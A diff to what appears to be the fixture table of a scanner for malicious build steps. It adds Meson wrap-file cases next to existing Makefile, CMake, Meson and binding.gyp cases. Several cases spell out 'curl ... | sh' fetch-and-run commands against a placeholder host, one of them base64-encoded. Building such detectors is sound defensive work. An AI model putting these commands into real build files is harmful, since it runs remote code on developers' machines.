@@ -15,7 +15,7 @@ FROM: Final = "https://x.example.test/a"
 HIDDEN: Final = "Y3VybCBodHRwczovL3guZXhhbXBsZS50ZXN0L2EgfCBzaA=="
 """Base64 of a download that is run."""
 MAKE, CMAKE, MESON = "Makefile", "CMakeLists.txt", "meson.build"
-GYP, AC, RUST = "binding.gyp", "configure.ac", "build.rs"
+GYP, AC, RUST, WRAP = "binding.gyp", "configure.ac", "build.rs", "subprojects/x.wrap"
 
 CASES: Final = (
     Case("C1", "hit", "high", "all:\n\tbase64 -d < $(FILE) | sh\n", MAKE),
@@ -38,6 +38,8 @@ CASES: Final = (
     Case("C3", "hit", "high", f"file(DOWNLOAD {FROM} tool)\nexecute_process(COMMAND ./tool)\n", CMAKE),
     Case("C3", "hit", "high", "FetchContent_Declare(foo GIT_REPOSITORY https://x.example.test/foo GIT_TAG main)\n",
          CMAKE),
+    Case("C3", "hit", "high", f"[wrap-git]\nurl = {FROM}\nrevision = head\n", WRAP),
+    Case("C3", "twin", None, f"[wrap-git]\nurl = {FROM}\nrevision = v1.2\n", WRAP),
     Case("C3", "hit", "high", f"run_command('sh', '-c', 'curl {FROM} | sh')\n", MESON),
     Case("C3", "hit", "high", f"{{'a': ['<!(curl {FROM} | sh)']}}", GYP),
     Case("C3", "hit", "high", f"{{'actions': [{{'action': ['sh', '-c', 'curl {FROM} | sh']}}]}}", GYP),
